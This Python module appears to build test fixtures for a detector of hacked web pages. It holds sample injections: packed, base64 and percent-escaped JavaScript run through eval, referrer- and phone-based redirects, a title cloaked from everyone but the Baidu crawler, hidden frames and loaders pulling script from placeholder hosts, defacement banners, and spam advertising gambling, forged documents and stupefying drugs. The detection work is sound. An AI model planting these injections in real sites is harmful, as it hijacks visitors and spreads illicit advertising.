"""Pages that someone else writes on, in the ways of saved pages that had been broken into."""

from __future__ import annotations

from base64 import b64encode

from .checks_frames import ARTICLE, HOME, article, home, script, single

PACKER = (
    "eval(function(p,a,c,k,e,r){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
    "String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--)r[e(c)]=k[c]||e(c);"
    "k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace("
    "new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
)
PACKED = (
    PACKER + '(\'1["2"]["3"](\\\'<0 4="5/6" 7="8://9.a.b/c.d"></0>\\\');\',14,14,'
    "'script|window|document|write|type|text|javascript|src|https|js|zb5918|example|yb|js'.split('|'),0,{}))"
)
PACKED_HEX = (
    PACKER + "('a[\"\\\\2\\\\1\\\\3\\\\4\"][\"\\\\5\\\\6\"](\\'\\\\7\\\\8\\\\9\\');',11,11,"
    "'|x6f|x64|x63|x75|x77|x72|x3c|x73|x3e|window'.split('|'),0,{}))"
)
LEAD = "location.href='https://www.hg0088-vip.example/';"
ENCODED = b64encode(LEAD.encode()).decode()
PERCENT = "".join(f"%{ord(c):02x}" for c in LEAD)


def numbers(text: str) -> str:
    """The text in decimal references, as such titles are written."""
    return "".join(f"&#{ord(c)};" for c in text)


def put(name: str, html: str, *seen: str, url: str = HOME) -> None:
    """A page and the observations of `injection` on it."""
    single(f"injected/{name}", url, html, injection=list(seen))


def titles() -> None:
    cover = script(
        'if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="澄湖县人民政府"}'
    )
    put(
        "title_of_races_covered_for_visitors",
        home("", head=cover, title=numbers("北京赛车pk10_pk10正规开户平台_北京pk10网上开户")),
        "page_defaced",
        "script_trick",
    )
    put(
        "title_in_numbers_with_a_dot",
        home("", title=numbers("PG电子·(中国)官方网站")),
        "page_defaced",
    )
    put(
        "described_by_another_hand",
        home(
            "",
            head='<meta name="keywords" content="'
            + numbers("体育app下载,体育官方版下载官网,真人百家乐,电子游艺")
            + '">',
        ),
        "page_defaced",
    )
    put(
        "forum_of_dog_races",
        home("", title="澳门跑狗图-香港六合彩论坛-王中王特码资料"),
        "page_defaced",
    )
    put(
        "application_of_a_lottery",
        article(
            title="800vip彩票网官方版-800vip彩票网官方app下载苹果端V3.6.0",
            text="<p>一款功能齐全的线上购彩平台，支持时时彩、快三、幸运飞艇，爆奖率高，注册即送彩金，快来下载试试吧！</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "regions_in_a_row",
        article(
            title="亚洲欧美日韩国产综合一区二区三区在线观看免费视频",
            text="<p>国产精品自拍偷拍在线播放，成人影片每日更新，无码高清，点击观看。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "papers_for_sale",
        article(
            title="澄湖办证刻章【电话微信同步】毕业证文凭办理",
            text="<p>专业办理各类证件：毕业证、学位证、职称证、驾驶证，刻章、代开发票，先办证后付款，全国送货，咨询QQ。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "bearing_for_others",
        article(
            title="澄湖代孕公司_包成功代孕_代孕价格表",
            text="<p>本代孕中心提供包成功、包性别套餐，代孕妈妈资源丰富，签合同，欢迎咨询。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "bets_on_the_cup",
        article(
            title="世界杯外围投注网站-足球外围平台-滚球盘口",
            text="<p>外围投注首选平台，足球滚球盘口全，真人视讯、电子老虎机，首存送彩金，秒提款。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "drugs_that_stun",
        article(
            title="迷药货到付款_听话水购买_催情药官网",
            text="<p>正品迷药、听话水、催情药水，无色无味，货到付款，隐私发货，加微信。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "intruder_writes_in_chinese",
        "<html><head><meta charset='utf-8'><title>黑客入侵 网站已被黑</title></head><body bgcolor=black text=red><center><h1>本站已被黑！</h1><p>管理员你的网站漏洞太多，联系QQ修复。By 夜影</p></center></body></html>",
        "page_defaced",
    )
    put(
        "intruder_owned_it",
        "<html><head><title>0wned by ReD-Fox Crew</title></head><body bgcolor='#000'><center><h1>Defaced By ReD-Fox Crew</h1><p>Greetz to all friends</p></center></body></html>",
        "page_defaced",
    )
    put(
        "friends_of_the_footer_that_sell",
        home(
            '<div id="yqlj2">友情链接：'
            + "".join(
                f'<a href="http://www.yl{n}88.example/">{t}</a> '
                for n, t in enumerate(
                    (
                        "百家乐",
                        "重庆时时彩平台",
                        "澳门威尼斯人",
                        "新葡京网址",
                        "传奇私服外挂",
                        "上海上门按摩",
                        "六合彩",
                    )
                )
            )
            + "</div>"
        ),
        "page_defaced",
    )


def scripts() -> None:
    put("packed_and_writes_a_script", home(script(PACKED)), "script_trick")
    put("packed_in_hexadecimal", home(script(PACKED_HEX)), "script_trick")
    put(
        "written_line_by_line_for_searchers",
        home(
            script(
                'document.writeln("<script LANGUAGE=\\"Javascript\\">");document.writeln("var s=document.referrer");'
                'document.writeln("if(s.indexOf(\\"baidu\\")>0 || s.indexOf(\\"sogou\\")>0 || s.indexOf(\\"sm\\")>0 || s.indexOf(\\"bing\\")>0 )");'
                'document.writeln("location.href=\\"https://www.136-bet.example\\";");document.writeln("<\\/script>");'
            )
        ),
        "script_trick",
    )
    put(
        "expression_of_engines_and_a_timer",
        home(
            script(
                r"var regexp=/\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|so|360|sm)(\.[a-z0-9\-]+){1,2}\//ig;"
                "var where=document.referrer;if(regexp.test(where)){setTimeout(\"window.location.href='http://www.bw888-cn.example/'\",100);}"
            )
        ),
        "script_trick",
    )
    put(
        "opener_is_led_away",
        home(
            script(
                'if(window.opener&&document.referrer.indexOf("baidu.com")!=-1){'
                'window.opener.location.href="http://www.baidu.com.s-wd.example/s?wd=1";}'
            )
        ),
        "script_trick",
    )
    put(
        "narrow_screens_are_led_away",
        home(
            script(
                "if(navigator.userAgent.match(/(phone|pad|pod|iPhone|iPod|ios|iPad|Android|Mobile|MQQBrowser|wOSBrowser)/i)){window.location.href='https://wap.kk55-app.example/?c=12';}"
            )
        ),
        "script_trick",
    )
    put(
        "picture_that_fails_on_purpose",
        home(f'<img src=x style="display:none" onerror="eval(atob(\'{ENCODED}\'))">'),
        "script_trick",
    )
    put(
        "made_into_a_function",
        home(script(f'(new Function(atob("{ENCODED}")))();')),
        "script_trick",
    )
    put("percent_signs_that_are_run", home(script(f'eval(unescape("{PERCENT}"));')), "script_trick")
    put(
        "script_as_data",
        home(f'<script src="data:text/javascript;base64,{ENCODED}"></script>'),
        "script_trick",
    )
    put(
        "frame_over_the_whole_page",
        home(
            '<iframe src="https://www.leyu-ty88.example/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;border:0"></iframe>'
        ),
        "foreign_script",
    )
    put(
        "object_of_a_stranger",
        home(
            '<object data="http://tj.cnt-flow.example/x.html" width="0" height="0" type="text/html"></object>'
        ),
        "foreign_script",
    )
    put(
        "script_by_its_parts",
        home(
            script(
                'var a="//js.",b="users-tj",c=".example/1.js";document.write("<script src=\'"+a+b+c+"\'><\\/script>");'
            )
        ),
        "foreign_script",
    )
    put(
        "script_of_a_stranger_after_the_end",
        home("", after="<script src=https://xiaomajia-tj.example/sp.js></script>"),
        "foreign_script",
    )


def build() -> None:
    titles()
    scripts()
